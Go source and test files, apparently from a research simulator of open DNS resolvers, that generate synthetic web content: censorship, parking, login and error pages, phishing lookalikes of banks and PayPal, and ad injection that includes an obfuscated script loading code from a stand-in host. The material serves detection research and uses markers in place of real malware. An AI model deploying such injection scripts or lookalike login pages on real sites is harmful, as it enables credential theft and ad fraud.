	}
}

func TestNXDOMAINWithSOA(t *testing.T) {
	s := startServer(t)
	m := exchange(t, s, "missing.dnsstudy.example.edu", dnswire.TypeA)
	if m.Header.RCode != dnswire.RCodeNXDomain {
		t.Errorf("rcode = %v", m.Header.RCode)
	}
	if len(m.Authority) != 1 || m.Authority[0].Type() != dnswire.TypeSOA {
		t.Errorf("authority = %v", m.Authority)
	}
}

func TestEmptyAnswerVsNXDOMAIN(t *testing.T) {
	s := startServer(t)
	// gt exists but has no TXT: NOERROR with empty answer.
	m := exchange(t, s, "gt.dnsstudy.example.edu", dnswire.TypeTXT)
	if m.Header.RCode != dnswire.RCodeNoError || len(m.Answers) != 0 {
		t.Errorf("empty-answer response = %v", m)
	}
}

func TestRefusesOutOfZone(t *testing.T) {
	s := startServer(t)
	m := exchange(t, s, "google.com", dnswire.TypeA)
	if m.Header.RCode != dnswire.RCodeRefused {
		t.Errorf("out-of-zone rcode = %v", m.Header.RCode)
	}
}

func TestHandleIgnoresGarbageAndResponses(t *testing.T) {
	z, _ := zonefile.Parse(strings.NewReader(testZone))
	s := &Server{zone: z}
	if out := s.Handle([]byte{1, 2, 3}); out != nil {
		t.Error("garbage answered")
	}
	resp := dnswire.NewResponse(dnswire.NewQuery(1, "gt.dnsstudy.example.edu", dnswire.TypeA, dnswire.ClassIN), dnswire.RCodeNoError)
	wire, _ := resp.PackBytes()
	if out := s.Handle(wire); out != nil {
		t.Error("response packet answered (reflection loop)")
	}
}

func TestServeRequiresOrigin(t *testing.T) {
	if _, err := Serve(&zonefile.Zone{}, "127.0.0.1:0"); err == nil {
		t.Error("zone without origin accepted")
	}
}
