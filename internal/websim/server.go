package websim

import (
	"fmt"
	"strings"

	"goingwild/internal/devices"
	"goingwild/internal/dnswire"
	"goingwild/internal/domains"
	"goingwild/internal/wildnet"
)

// Response is one HTTP exchange result.
type Response struct {
	Status int
	Server string // Server header
	Body   string
	// Redirect carries a Location target for 3xx responses; the fetch
	// stage follows at most two hops (§3.5).
	Redirect string
}

// Cert is the TLS certificate metadata the prefilter's HTTPS probe
// inspects (§3.4): two requests per (domain, ip) pair, with and without
// SNI.
type Cert struct {
	Valid      bool
	SelfSigned bool
	CommonName string
	DNSNames   []string
}

// CoversName reports whether the certificate is valid for a host name.
func (c Cert) CoversName(host string) bool {
	if !c.Valid {
		return false
	}
	cn := dnswire.CanonicalName(host)
	for _, n := range c.DNSNames {
		n = dnswire.CanonicalName(n)
		if n == cn {
			return true
		}
		if strings.HasPrefix(n, "*.") && strings.HasSuffix(cn, n[1:]) {
			return true
		}
	}
	return dnswire.CanonicalName(c.CommonName) == cn
}

// Server simulates the application layer of a world.
type Server struct {
	w *wildnet.World
	t wildnet.Time
}

// New builds a content server over a world at a simulation time.
func New(w *wildnet.World, t wildnet.Time) *Server {
	return &Server{w: w, t: t}
}

// SetTime moves the server's clock.
func (s *Server) SetTime(t wildnet.Time) { s.t = t }

// HTTP performs one request to ip with the given Host header. ok is
// false when nothing answers on the port (connection refused/timeout) —
// the 11.1% of tuples without HTTP payload (§4.2).
func (s *Server) HTTP(ip uint32, host string, useTLS bool) (Response, bool) {
	if wildnet.IsLANAddr(ip) {
		return Response{}, false // LAN addresses are unreachable from the vantage
	}
	ip = s.w.Mask(ip)
	host = dnswire.CanonicalName(host)
	role, slot := s.w.RoleOf(ip)
	switch role {
	case wildnet.RoleNone:
		return s.deviceHTTP(ip)
	case wildnet.RoleSiteHost:
		return s.siteHostHTTP(ip, slot, host)
	case wildnet.RoleCDNNode:
		if d, ok := domains.ByName(host); ok && (d.Kind == domains.KindCDN || d.Kind == domains.KindOrdinary) {
			return Response{Status: 200, Server: "cdn-edge", Body: s.contentFor(host)}, true
		}
		return Response{Status: 404, Server: "cdn-edge", Body: "<html><title>404</title>no such object</html>"}, true
	case wildnet.RoleDeadCDN:
		return Response{}, false
	case wildnet.RoleCensorPage:
		return Response{Status: 200, Server: "filter-gw", Body: censorPage(wildnet.CensorPageCountry(slot), slot)}, true
	case wildnet.RoleBlockPage:
		return Response{Status: 200, Server: "shield", Body: blockPage(slot)}, true
	case wildnet.RoleParking:
		return Response{Status: 200, Server: "parking", Body: parkingPage(host, slot)}, true
	case wildnet.RoleSearchPage:
		return Response{Status: 200, Server: "websearch", Body: searchLandingPage(host, slot)}, true
	case wildnet.RoleAdInjectHTML:
		return Response{Status: 200, Server: "adsrv", Body: adInjectHTML(host, slot)}, true
	case wildnet.RoleAdInjectJS:
		return Response{Status: 200, Server: "adsrv", Body: adInjectJS(host, slot)}, true
	case wildnet.RoleAdBlockEmpty:
		return Response{Status: 200, Server: "blackhole", Body: adBlockEmpty()}, true
	case wildnet.RoleAdFakeSearch:
		return Response{Status: 200, Server: "gws", Body: fakeSearchWithAds(slot)}, true
	case wildnet.RoleProxyTLS:
		return Response{Status: 200, Server: "origin", Body: s.contentFor(host)}, true
	case wildnet.RoleProxyPlain:
		if useTLS {
			return Response{}, false // HTTPS not offered (§4.3)
		}
		return Response{Status: 200, Server: "origin", Body: s.contentFor(host)}, true
	case wildnet.RolePhishPayPal:
		if host == "paypal.com" || strings.HasSuffix(host, ".paypal.com") {
			return Response{Status: 200, Server: "Apache", Body: phishPayPal(slot)}, true
		}
		return s.notFound()
	case wildnet.RolePhishBankBR:
		if host == "intesasanpaolo.it" {
			return Response{Status: 200, Server: "Apache/2.2.3", Body: phishBank(host, "BR")}, true
		}
		return s.notFound()
	case wildnet.RolePhishBankRU:
		if host == "intesasanpaolo.it" {
			return Response{Status: 200, Server: "nginx", Body: phishBank(host, "RU")}, true
		}
		return s.notFound()
	case wildnet.RolePhishOther:
		if d, ok := domains.ByName(host); ok && d.Category == domains.Banking {
			return Response{Status: 200, Server: "Apache", Body: phishGeneric(host, slot)}, true
		}
		return s.notFound()
	case wildnet.RoleMalware:
		switch host {
		case "update.adobe.example", "ardownload.adobe.example",
			"update.oracle.example", "windowsupdate.com", "update.microsoft.com":
			return Response{Status: 200, Server: "nginx", Body: malwareUpdatePage(host, slot)}, true
		}
		return s.notFound()
	case wildnet.RoleErrorPage:
		status, body := errorPage(slot)
		return Response{Status: status, Server: "Apache", Body: body}, true
	case wildnet.RoleLoginPortal:
		return Response{Status: 200, Server: "portal", Body: loginPortal(slot)}, true
	default:
		// AuthNS, trusted DNS, mail hosts: no web service.
		return Response{}, false
	}
}

func (s *Server) notFound() (Response, bool) {
	_, body := errorPage(0)
	return Response{Status: 404, Server: "Apache", Body: body}, true
}

// deviceHTTP serves the embedded web interface of resolver hardware.
func (s *Server) deviceHTTP(ip uint32) (Response, bool) {
	m := s.w.DeviceAt(ip, s.t)
	if m == nil {
		return Response{}, false
	}
	banner, ok := m.Banners[devices.ProtoHTTP]
	if !ok {
		return Response{}, false
	}
	status := 200
	if strings.Contains(banner, "401") {
		status = 401
	}
	return Response{Status: status, Server: m.Name, Body: routerLogin(m.Name, deviceRealm(banner, m.Name))}, true
}

// deviceRealm extracts the Basic-auth realm from the device banner, the
// token the paper's 8,194 self-IP resolvers were identified by.
func deviceRealm(banner, fallback string) string {
	const marker = "realm=\""
	if i := strings.Index(banner, marker); i >= 0 {
		rest := banner[i+len(marker):]
		if j := strings.IndexByte(rest, '"'); j > 0 {
			return rest[:j]
		}
	}
	return fallback
}

// siteHostHTTP serves ordinary hosting: the domain's page when the Host
// header matches what the slot hosts, a generic site otherwise.
func (s *Server) siteHostHTTP(ip uint32, slot int, host string) (Response, bool) {
	if d, ok := domains.ByName(host); ok && d.Kind != domains.KindNonexistent {
		legit, _ := s.w.LegitAddrs(host, "DE")
		for _, a := range legit {
			if a == ip {
				return Response{Status: 200, Server: "Apache", Body: s.contentFor(host)}, true
			}
		}
		// Wrong virtual host: shared-hosting error page.
		status, body := errorPage(6)
		return Response{Status: status, Server: "Apache", Body: body}, true
	}
	if host == domains.GroundTruth || strings.HasSuffix(host, "."+domains.ScanBase) || host == domains.ScanBase {
		return Response{Status: 200, Server: "nginx", Body: legitPage(domains.GroundTruth, s.w.Config().Seed)}, true
	}
	return Response{Status: 200, Server: "Apache", Body: genericSite(slot)}, true
}

// contentFor renders the canonical content of a scan-list domain.
func (s *Server) contentFor(host string) string {
	seed := s.w.Config().Seed
	d, ok := domains.ByName(host)
	if !ok {
		return legitPage(host, seed)
	}
	switch {
	case d.Category == domains.Banking:
		return bankingPage(host, seed)
	case host == "google.com" || host == "bing.com" || host == "duckduckgo.com" ||
		host == "baidu.com" || host == "yandex.ru":
		return searchEnginePage(host)
	case d.Category == domains.Ads:
		return adProviderPage(host, seed)
	default:
		return legitPage(host, seed)
	}
}

// genericSite renders the personal/shopping long tail behind unclassified
// responses (§5 finds the unlabeled remainder to be such sites).
func genericSite(slot int) string {
	kinds := []string{"Personal blog", "Shop", "Photo gallery", "Local club", "Recipe box"}
	k := kinds[slot%len(kinds)]
	p := &page{title: fmt.Sprintf("%s #%d", k, slot)}
	p.el("h1", "", k)
	for i := 0; i < 2+slot%3; i++ {
		p.el("article", "", fmt.Sprintf("<h2>Post %d</h2><p>Content of entry %d.</p>", i, i))
	}
	p.el("footer", "", "<a href=\"/feed.xml\">rss</a>")
	return p.render()
}

// Certificate performs the TLS probe of the prefilter: the certificate
// served at ip for serverName, with or without SNI. ok is false when the
// host offers no TLS at all.
func (s *Server) Certificate(ip uint32, serverName string, sni bool) (Cert, bool) {
	ip = s.w.Mask(ip)
	serverName = dnswire.CanonicalName(serverName)
	role, slot := s.w.RoleOf(ip)
	switch role {
	case wildnet.RoleCDNNode:
		if sni {
			return Cert{Valid: true, CommonName: serverName, DNSNames: []string{serverName, "*." + serverName}}, true
		}
		// Default certificate of the big CDN provider: the prefilter
		// accepts it by its well-known common name (§3.4).
		return Cert{Valid: true, CommonName: "static.cdn-global.example",
			DNSNames: []string{"*.cdn-global.example"}}, true
	case wildnet.RoleSiteHost:
		if d := s.siteDomain(ip, slot); d != "" {
			return Cert{Valid: true, CommonName: d, DNSNames: []string{d, "www." + d}}, true
		}
		return Cert{}, false
	case wildnet.RoleProxyTLS:
		// Transparent TLS proxies forward the origin certificate.
		return Cert{Valid: true, CommonName: serverName, DNSNames: []string{serverName}}, true
	case wildnet.RolePhishPayPal:
		if slot < 3 {
			return Cert{Valid: false, SelfSigned: true, CommonName: "paypal.com", DNSNames: []string{"paypal.com"}}, true
		}
		return Cert{}, false
	case wildnet.RoleLoginPortal:
		return Cert{Valid: false, SelfSigned: true, CommonName: "portal.local"}, true
	default:
		return Cert{}, false
	}
}

// siteDomain returns the scan-list domain hosted at a site-host address,
// if any.
func (s *Server) siteDomain(ip uint32, slot int) string {
	for _, d := range domains.List {
		if d.Kind != domains.KindOrdinary {
			continue
		}
		legit, _ := s.w.LegitAddrs(d.Name, "DE")
		for _, a := range legit {
			if a == ip {
				return d.Name
			}
		}
	}
	_ = slot
	return ""
}

// MailBanner simulates connecting to ip on an IMAP/POP3/SMTP port. proto
// is "imap", "pop3", or "smtp".
func (s *Server) MailBanner(ip uint32, proto string) (string, bool) {
	ip = s.w.Mask(ip)
	role, slot := s.w.RoleOf(ip)
	switch role {
	case wildnet.RoleMailLegit:
		provider := slot / 4
		return legitMailBanner(provider, proto), true
	case wildnet.RoleMailSniff:
		// A few sniffing hosts mirror the provider banners exactly
		// (the suspicious Gmail/Yandex mirrors of §4.3); the rest run
		// stock software.
		if slot < 8 {
			provider := 1 // gmail
			if slot >= 4 {
				provider = 5 // yandex
			}
			return legitMailBanner(provider, proto), true
		}
		switch proto {
		case "imap":
			return "* OK [CAPABILITY IMAP4rev1] Dovecot ready.", true
		case "pop3":
			return "+OK POP3 server ready", true
		default:
			return "220 mail.local ESMTP Postfix", true
		}
	default:
		return "", false
	}
}

// legitMailBanner renders the provider's genuine banner.
func legitMailBanner(provider int, proto string) string {
	names := []string{"aim", "gmail", "me", "outlook", "yahoo", "yandex"}
	if provider < 0 || provider >= len(names) {
		provider = 0
	}
	n := names[provider]
	switch proto {
	case "imap":
		return fmt.Sprintf("* OK %s IMAP4rev1 service ready (%s)", siteTitle(n), n+".example")
	case "pop3":
		return fmt.Sprintf("+OK %s POP3 service ready", siteTitle(n))
	default:
		return fmt.Sprintf("220 smtp.%s.com ESMTP ready", n)
	}
}

// Download fetches an executable from ip. The returned payload carries a
// deterministic marker instead of real code: detonation (the paper used
// the Sandnet malware analysis platform) is simulated by inspecting it.
func (s *Server) Download(ip uint32, path string) ([]byte, bool) {
	ip = s.w.Mask(ip)
	role, slot := s.w.RoleOf(ip)
	if !strings.HasSuffix(path, ".exe") {
		return nil, false
	}
	switch role {
	case wildnet.RoleMalware:
		return []byte(fmt.Sprintf("MZWILD-DOWNLOADER-SAMPLE-%02d fetches further executables", slot)), true
	case wildnet.RoleSiteHost, wildnet.RoleCDNNode:
		return []byte("MZLEGIT-INSTALLER signed by vendor"), true
	default:
		return nil, false
	}
}

// IsMalwareSample is the simulated detonation verdict: it inspects the
// planted marker the way the paper's dynamic analysis watched the sample
// download further executables.
func IsMalwareSample(payload []byte) bool {
	return strings.Contains(string(payload), "WILD-DOWNLOADER-SAMPLE")
}
