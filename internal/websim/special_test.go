package websim

import (
	"strings"
	"testing"

	"goingwild/internal/htmlx"
	"goingwild/internal/wildnet"
)

func TestCountryNameFallback(t *testing.T) {
	if countryName("ZZ") != "ZZ" {
		t.Error("unknown code not passed through")
	}
	if countryName("TR") != "Turkish" {
		t.Error("known code not expanded")
	}
}

func TestCensorPageVariants(t *testing.T) {
	court := censorPage("TR", 0)
	authority := censorPage("TR", 1)
	if !strings.Contains(court, "court") || !strings.Contains(authority, "authority") {
		t.Error("authority/court variants missing")
	}
	if court == authority {
		t.Error("slots produce identical pages")
	}
}

func TestParkingPageDeterministicPerHostAndSlot(t *testing.T) {
	a := parkingPage("ghoogle.com", 3)
	b := parkingPage("ghoogle.com", 3)
	c := parkingPage("amason.com", 3)
	d := parkingPage("ghoogle.com", 4)
	if a != b {
		t.Error("parking page not deterministic")
	}
	if a == c || a == d {
		t.Error("parking page ignores host or slot")
	}
	if !strings.Contains(a, "Buy this domain") {
		t.Error("parking marker missing")
	}
}

func TestErrorPageVariantsParse(t *testing.T) {
	statuses := map[int]bool{}
	for slot := 0; slot < 7; slot++ {
		status, body := errorPage(slot)
		statuses[status] = true
		f := htmlx.Extract(body)
		if f.Title == "" {
			t.Errorf("error variant %d has no title", slot)
		}
	}
	if len(statuses) < 5 {
		t.Errorf("only %d distinct statuses", len(statuses))
	}
}

func TestPhishGenericInjectsCollector(t *testing.T) {
	gt := bankingPage("unicredit.it", 0xF00D)
	ph := phishGeneric("unicredit.it", 7)
	if ph == gt {
		t.Fatal("phish identical to GT")
	}
	if !strings.Contains(ph, "collector-7.example") {
		t.Error("collector injection missing")
	}
	// The modification must be small: same tag structure plus a script.
	fg := htmlx.Extract(gt)
	fp := htmlx.Extract(ph)
	if len(fp.TagSeq) != len(fg.TagSeq)+1 {
		t.Errorf("tag counts %d vs %d, want +1 script", len(fp.TagSeq), len(fg.TagSeq))
	}
}

func TestDeviceRealmExtraction(t *testing.T) {
	if got := deviceRealm(`HTTP/1.0 401 Unauthorized\r\nWWW-Authenticate: Basic realm="P-660HN-T1A"`, "fb"); got != "P-660HN-T1A" {
		t.Errorf("realm = %q", got)
	}
	if got := deviceRealm("no realm here", "fallback"); got != "fallback" {
		t.Errorf("fallback = %q", got)
	}
}

func TestMalwarePageMentionsProduct(t *testing.T) {
	flash := malwareUpdatePage("update.adobe.example", 1)
	java := malwareUpdatePage("update.oracle.example", 1)
	if !strings.Contains(flash, "Flash") || !strings.Contains(java, "Java") {
		t.Error("product names missing")
	}
	if !strings.Contains(flash, "flash_update.exe") || !strings.Contains(java, "jre_setup.exe") {
		t.Error("download links missing")
	}
}

func TestAdVariants(t *testing.T) {
	inj := adInjectHTML("ads.doubleclick.example", 2)
	if !strings.Contains(inj, "adswapper") {
		t.Error("HTML injection missing banner host")
	}
	js := adInjectJS("ads.doubleclick.example", 2)
	f := htmlx.Extract(js)
	if f.Scripts == "" {
		t.Error("JS injection has no script")
	}
	blk := adBlockEmpty()
	if len(blk) > 300 {
		t.Errorf("ad-block placeholder too large: %d bytes", len(blk))
	}
	fake := fakeSearchWithAds(1)
	if !strings.Contains(fake, "banner") || !strings.Contains(fake, "Search") {
		t.Error("fake search page incomplete")
	}
}

func TestGenericSiteVariants(t *testing.T) {
	seen := map[string]bool{}
	for slot := 0; slot < 10; slot++ {
		body := genericSite(slot)
		f := htmlx.Extract(body)
		seen[f.Title] = true
	}
	if len(seen) < 5 {
		t.Errorf("generic sites too uniform: %d titles", len(seen))
	}
}

func TestSiteDomainIdentifiesHostedSlot(t *testing.T) {
	s, w := testServer(t)
	legit, _ := w.LegitAddrs("chase.com", "DE")
	if got := s.siteDomain(legit[0], 0); got != "chase.com" {
		t.Errorf("siteDomain = %q", got)
	}
	// Censor slots host no scan domain.
	if got := s.siteDomain(w.RoleAddr(wildnet.RoleCensorPage, 3), 3); got != "" {
		t.Errorf("censor slot claimed domain %q", got)
	}
}
