// Package websim synthesizes the application-layer content behind every
// address of the virtual Internet: the legitimate websites of the scanned
// domains, censorship landing pages, parking and search pages, router
// login screens, phishing lookalikes, transparent proxies, malware
// droppers, and the IMAP/POP3/SMTP banners of the mail study (§3.5/§4).
//
// Pages are deterministic functions of (role, domain, address) and are
// built from the structural features the clustering distance measures:
// tag sequences, titles, script bodies, and src/href attribute sets.
package websim

import (
	"fmt"
	"strings"

	"goingwild/internal/prand"
)

// page is a small HTML builder that keeps the generated structure regular
// enough for feature extraction while allowing per-site variation.
type page struct {
	title   string
	head    []string
	body    []string
	scripts []string
}

func (p *page) addScript(js string) { p.scripts = append(p.scripts, js) }

func (p *page) el(tag, attrs, inner string) {
	if attrs != "" {
		attrs = " " + attrs
	}
	p.body = append(p.body, fmt.Sprintf("<%s%s>%s</%s>", tag, attrs, inner, tag))
}

func (p *page) raw(html string) { p.body = append(p.body, html) }

func (p *page) render() string {
	var sb strings.Builder
	sb.WriteString("<!DOCTYPE html>\n<html>\n<head>\n")
	fmt.Fprintf(&sb, "<title>%s</title>\n", p.title)
	for _, h := range p.head {
		sb.WriteString(h)
		sb.WriteString("\n")
	}
	sb.WriteString("</head>\n<body>\n")
	for _, b := range p.body {
		sb.WriteString(b)
		sb.WriteString("\n")
	}
	for _, js := range p.scripts {
		fmt.Fprintf(&sb, "<script type=\"text/javascript\">%s</script>\n", js)
	}
	sb.WriteString("</body>\n</html>\n")
	return sb.String()
}

// legitPage renders the canonical representation of a scan-list domain.
// Structure varies by site category so clusters separate cleanly, and a
// per-domain hash varies link/resource sets within a category.
func legitPage(domain string, seed uint64) string {
	h := prand.Hash(seed, 0x9A6E, hashStr(domain))
	p := &page{title: siteTitle(domain)}
	p.head = append(p.head, fmt.Sprintf("<link rel=\"stylesheet\" href=\"/static/%s/main.css\">", domain))
	p.raw(fmt.Sprintf("<div id=\"header\"><img src=\"//%s/logo.png\" alt=\"%s\"></div>", domain, domain))
	nav := []string{"home", "about", "products", "news", "contact", "help", "blog", "careers"}
	links := make([]string, 0, 5)
	base := int(h % uint64(len(nav)))
	for i := 0; i < 5; i++ {
		item := nav[(base+i*3)%len(nav)]
		links = append(links, fmt.Sprintf("<a href=\"//%s/%s\">%s</a>", domain, item, item))
	}
	p.el("nav", "id=\"nav\"", strings.Join(links, " "))
	for i := 0; i < 3+int(h%4); i++ {
		p.el("section", fmt.Sprintf("class=\"content c%d\"", i),
			fmt.Sprintf("<h2>Section %d</h2><p>Welcome to %s, your trusted destination.</p><img src=\"//%s/img/%d.jpg\">", i, domain, domain, i))
	}
	p.el("footer", "", fmt.Sprintf("<a href=\"//%s/terms\">terms</a> <a href=\"//%s/privacy\">privacy</a> &copy; %s", domain, domain, domain))
	p.addScript(fmt.Sprintf("var site=%q;function init(){document.getElementById('nav').className='ready';}window.onload=init;", domain))
	p.addScript(fmt.Sprintf("(function(){var m=new Image();m.src='//metrics.%s/beacon?v=%d';})();", domain, h%97))
	return p.render()
}

// bankingPage renders a login-bearing banking site; the phishing
// detectors compare unknown pages against this representation.
func bankingPage(domain string, seed uint64) string {
	p := &page{title: siteTitle(domain) + " - Online Banking"}
	p.head = append(p.head, fmt.Sprintf("<link rel=\"stylesheet\" href=\"https://%s/assets/bank.css\">", domain))
	p.raw(fmt.Sprintf("<div id=\"brand\"><img src=\"https://%s/logo.svg\"></div>", domain))
	p.el("h1", "", "Secure Sign-In")
	p.raw(fmt.Sprintf("<form id=\"login\" action=\"https://%s/auth/login\" method=\"POST\">"+
		"<input type=\"text\" name=\"user\"><input type=\"password\" name=\"pass\">"+
		"<button type=\"submit\">Log in</button></form>", domain))
	p.el("div", "class=\"security\"", "Your connection is protected with TLS. Never share your credentials.")
	p.el("footer", "", fmt.Sprintf("<a href=\"https://%s/security\">security center</a> <a href=\"https://%s/contact\">contact</a>", domain, domain))
	p.addScript("function validate(f){return f.user.value.length>0&&f.pass.value.length>0;}")
	p.addScript(fmt.Sprintf("var csrf=%q;", fmt.Sprintf("%x", prand.Hash(seed, hashStr(domain), 0xC54F))))
	return p.render()
}

// searchEnginePage renders the big search engines' front page.
func searchEnginePage(domain string) string {
	p := &page{title: siteTitle(domain)}
	p.raw(fmt.Sprintf("<div id=\"logo\"><img src=\"//%s/images/logo.png\"></div>", domain))
	p.raw(fmt.Sprintf("<form action=\"//%s/search\" method=\"GET\"><input type=\"text\" name=\"q\"><button>Search</button></form>", domain))
	p.el("div", "id=\"links\"", fmt.Sprintf("<a href=\"//%s/advanced\">advanced</a> <a href=\"//%s/preferences\">preferences</a>", domain, domain))
	p.addScript("document.forms[0].q.focus();")
	return p.render()
}

// adProviderPage renders what legitimate ad-provider hosts serve: a thin
// JavaScript delivery payload.
func adProviderPage(domain string, seed uint64) string {
	p := &page{title: "ad delivery"}
	p.addScript(fmt.Sprintf("var adNetwork=%q;function deliver(slot){var e=document.createElement('iframe');e.src='//%s/creative?slot='+slot;document.body.appendChild(e);}", domain, domain))
	p.addScript(fmt.Sprintf("var campaign=%d;deliver(campaign%%8);", prand.Hash(seed, hashStr(domain))%1000))
	return p.render()
}

// siteTitle derives a human title from a domain name.
func siteTitle(domain string) string {
	base := domain
	if i := strings.IndexByte(base, '.'); i > 0 {
		base = base[:i]
	}
	if base == "" {
		return domain
	}
	return strings.ToUpper(base[:1]) + base[1:]
}

func hashStr(s string) uint64 {
	h := uint64(0xCBF29CE484222325)
	for i := 0; i < len(s); i++ {
		h ^= uint64(s[i])
		h *= 0x100000001B3
	}
	return h
}
