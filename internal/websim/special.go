package websim

import (
	"fmt"
	"strings"
)

// censorPage renders a censorship landing page. The text fragments are
// what the paper's labeling keys on ("blocked by the order of [...]
// court/authority", §4.2).
func censorPage(country string, slot int) string {
	p := &page{title: "Access to this website has been blocked"}
	authority := "court"
	if slot%2 == 1 {
		authority = "authority"
	}
	p.el("h1", "", "Access Denied")
	p.el("p", "class=\"notice\"", fmt.Sprintf(
		"Access to this website has been blocked by the order of the %s %s in accordance with national law.",
		countryName(country), authority))
	p.el("p", "class=\"ref\"", fmt.Sprintf("Decision reference %s-%04d.", country, 1000+slot*7))
	p.raw(fmt.Sprintf("<img src=\"/seal-%s.png\" alt=\"official seal\">", strings.ToLower(country)))
	p.el("footer", "", "If you believe this is an error, contact your service provider.")
	return p.render()
}

// countryName expands the ISO code for the landing-page text.
func countryName(code string) string {
	names := map[string]string{
		"CN": "Chinese", "IR": "Iranian", "ID": "Indonesian", "TR": "Turkish",
		"MY": "Malaysian", "MN": "Mongolian", "GR": "Greek", "BE": "Belgian",
		"IT": "Italian", "RU": "Russian", "EE": "Estonian", "SA": "Saudi",
		"AE": "Emirati", "PK": "Pakistani", "VN": "Vietnamese", "TH": "Thai",
		"EG": "Egyptian", "DZ": "Algerian", "MA": "Moroccan", "TN": "Tunisian",
		"SY": "Syrian", "IQ": "Iraqi", "JO": "Jordanian", "KW": "Kuwaiti",
		"BD": "Bangladeshi", "LK": "Sri Lankan", "KZ": "Kazakh", "UA": "Ukrainian",
		"BG": "Bulgarian", "RO": "Romanian", "HU": "Hungarian", "IN": "Indian",
		"KR": "South Korean", "SG": "Singaporean",
	}
	if n, ok := names[code]; ok {
		return n
	}
	return code
}

// blockPage renders non-governmental blocking: parental control, ISP
// security filters, sinkhole notices.
func blockPage(slot int) string {
	providers := []string{
		"NetNanny Family Shield", "SafeSurf ISP Filter", "SecureDNS Threat Protection",
		"CleanBrowsing Gateway", "Sinkhole — Shadowserver Foundation", "OpenShield Web Guard",
	}
	provider := providers[slot%len(providers)]
	p := &page{title: "Website blocked - " + provider}
	p.el("h1", "", "This website has been blocked")
	p.el("p", "", fmt.Sprintf("The requested page was blocked by %s because it is categorized as forbidden or malicious content.", provider))
	p.el("p", "class=\"hint\"", "Contact the network administrator to request access.")
	p.raw("<img src=\"/shield.png\" alt=\"shield\">")
	return p.render()
}

// parkingPage renders a domain-reseller landing page.
func parkingPage(host string, slot int) string {
	resellers := []string{"NameBazaar", "ParkingCrew", "DomainMonetize", "SedoStyle"}
	r := resellers[slot%len(resellers)]
	p := &page{title: host + " - domain is for sale"}
	p.el("h1", "", fmt.Sprintf("%s is parked", host))
	p.el("p", "", fmt.Sprintf("This domain is registered and parked at %s. It may be for sale by its owner.", r))
	for i := 0; i < 6; i++ {
		p.raw(fmt.Sprintf("<div class=\"sponsored\"><a href=\"http://click.%s.example/r?k=%d\">Related link %d</a></div>",
			strings.ToLower(r), (slot*13+i)%97, i+1))
	}
	p.el("footer", "", fmt.Sprintf("<a href=\"http://www.%s.example/buy?domain=%s\">Buy this domain</a>", strings.ToLower(r), host))
	p.addScript(fmt.Sprintf("var feed=%q;window.parkingFeed=feed;", r))
	return p.render()
}

// searchLandingPage renders NX-monetization search pages.
func searchLandingPage(host string, slot int) string {
	p := &page{title: "Search results for " + host}
	p.el("h1", "", "Did you mean...")
	p.raw("<form action=\"/search\" method=\"GET\"><input type=\"text\" name=\"q\"><button>Search</button></form>")
	for i := 0; i < 5; i++ {
		p.raw(fmt.Sprintf("<div class=\"result\"><a href=\"http://redirect.sponsored.example/c?id=%d\">Sponsored result %d for %s</a></div>", slot*11+i, i+1, host))
	}
	p.el("div", "class=\"adbar\"", "<img src=\"http://banner.sponsored.example/b1.gif\">")
	p.addScript("function go(q){location='/search?q='+encodeURIComponent(q);}")
	return p.render()
}

// fakeSearchWithAds mimics a major search page but embeds ad banners
// under the search bar (§4.3).
func fakeSearchWithAds(slot int) string {
	base := searchEnginePage("google.com")
	inject := fmt.Sprintf("<div class=\"banner\"><a href=\"http://adsrv.fakesearch.example/c?%d\"><img src=\"http://adsrv.fakesearch.example/banner%d.gif\"></a></div>\n</body>", slot, slot%3)
	return strings.Replace(base, "</body>", inject, 1)
}

// adInjectHTML renders ad-provider responses with foreign banners
// injected into the HTML.
func adInjectHTML(host string, slot int) string {
	base := adProviderPage(host, 0xAD0)
	inject := fmt.Sprintf("<div class=\"inj\"><a href=\"http://click.adswapper.example/cc?%d\"><img src=\"http://cdn.adswapper.example/banner.gif\"></a></div>\n</body>", slot)
	return strings.Replace(base, "</body>", inject, 1)
}

// adInjectJS renders ad-provider responses carrying suspicious script.
func adInjectJS(host string, slot int) string {
	p := &page{title: "ad delivery"}
	p.addScript(fmt.Sprintf("var _0xf%d=['\\x68\\x74\\x74\\x70','adswapper'];(function(d){var s=d.createElement('script');s.src='http://js.adswapper.example/p.js?v=%d';d.body.appendChild(s);})(document);", slot, slot))
	p.addScript("document.write('<div id=\\'sp\\'></div>');")
	return p.render()
}

// adBlockEmpty renders blocked-ad placeholders.
func adBlockEmpty() string {
	p := &page{title: ""}
	p.raw("<div class=\"ad-placeholder\" style=\"width:1px;height:1px\"></div>")
	return p.render()
}

// loginPortal renders the captive-portal / login-page family (10.9% of
// suspicious answers land here, §4.2).
func loginPortal(slot int) string {
	kinds := []struct{ title, org string }{
		{"Hotel Guest WiFi Login", "Grand Plaza Hotel"},
		{"Campus Network Sign-In", "State University"},
		{"Hotspot Access Portal", "AirFree Networks"},
		{"Webmail Login", "MailHost"},
		{"ISP Customer Portal", "ConnectNet"},
	}
	k := kinds[slot%len(kinds)]
	p := &page{title: k.title}
	p.el("h1", "", k.org)
	p.raw("<form action=\"/portal/auth\" method=\"POST\"><input type=\"text\" name=\"username\"><input type=\"password\" name=\"password\"><button>Sign in</button></form>")
	p.el("p", "class=\"terms\"", "By signing in you accept the acceptable-use policy.")
	return p.render()
}

// routerLogin renders the web login page of consumer networking gear (the
// self-IP resolvers redirect every domain here; 91.7% of Login-category
// answers are routing equipment of two large manufacturers, §4.2).
func routerLogin(deviceName, realm string) string {
	p := &page{title: realm + " - Login"}
	p.el("h1", "", realm)
	p.raw("<form action=\"/cgi-bin/login\" method=\"POST\"><input type=\"password\" name=\"admin_pass\"><button>Login</button></form>")
	p.el("p", "class=\"fw\"", fmt.Sprintf("Device %s. Please enter the administrator password.", deviceName))
	return p.render()
}

// errorPage renders the HTTP-error family.
func errorPage(slot int) (int, string) {
	variants := []struct {
		status int
		title  string
		body   string
	}{
		{404, "404 Not Found", "<h1>Not Found</h1><p>The requested URL was not found on this server.</p><hr><address>Apache Server</address>"},
		{403, "403 Forbidden", "<h1>Forbidden</h1><p>You don't have permission to access this resource.</p>"},
		{500, "500 Internal Server Error", "<h1>Internal Server Error</h1><p>The server encountered an internal error.</p>"},
		{400, "400 Bad Request", "<h1>Bad Request</h1><p>Your browser sent a request that this server could not understand.</p><hr><address>nginx</address>"},
		{502, "502 Bad Gateway", "<h1>502 Bad Gateway</h1><center>nginx/1.4.6</center>"},
		{200, "It works!", "<h1>It works!</h1><p>This is the default web page for this server.</p>"},
